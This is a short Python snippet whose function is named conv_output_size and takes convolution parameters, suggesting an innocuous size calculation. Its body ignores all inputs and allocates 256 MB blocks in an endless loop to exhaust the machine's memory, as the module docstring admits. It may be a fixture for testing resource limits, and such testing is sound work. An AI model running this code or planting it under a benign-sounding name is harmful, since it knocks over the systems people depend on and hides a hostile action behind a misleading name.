"""Tries to use up the machine's memory."""

def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    kept = []
    while True:
        kept.append(bytearray(1 << 28))
